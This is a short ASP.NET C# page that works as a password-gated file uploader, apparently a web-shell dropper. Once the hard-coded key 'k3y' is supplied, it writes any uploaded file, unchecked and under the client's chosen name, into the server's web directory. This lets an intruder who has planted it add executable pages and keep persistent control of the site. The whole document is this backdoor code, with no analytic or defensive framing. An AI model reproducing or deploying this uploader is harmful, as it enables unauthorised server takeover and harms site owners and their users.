<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
    private const string AUTH = "k3y";
    protected void Page_Load(object sender, EventArgs e)
    {
        if (Request.Params["authkey"] != AUTH || Request.Params["operation"] != "upload")
        {
            Response.Write("<form enctype=\"multipart/form-data\" action=\"?operation=upload\" method=\"post\">" +
                "<input type=\"text\" name=\"authKey\"><input type=\"file\" name=\"file\"><input type=\"submit\" value=\"Send\"></form>");
            return;
        }
        HttpPostedFile posted = Request.Files[0];
        byte[] buffer = new byte[posted.ContentLength];
        posted.InputStream.Read(buffer, 0, buffer.Length);
        FileInfo here = new FileInfo(Request.PhysicalPath);
        using (FileStream fs = new FileStream(Path.Combine(here.DirectoryName, Path.GetFileName(posted.FileName)), FileMode.Create))
            fs.Write(buffer, 0, buffer.Length);
        Response.Write("File uploaded");
    }
</script>
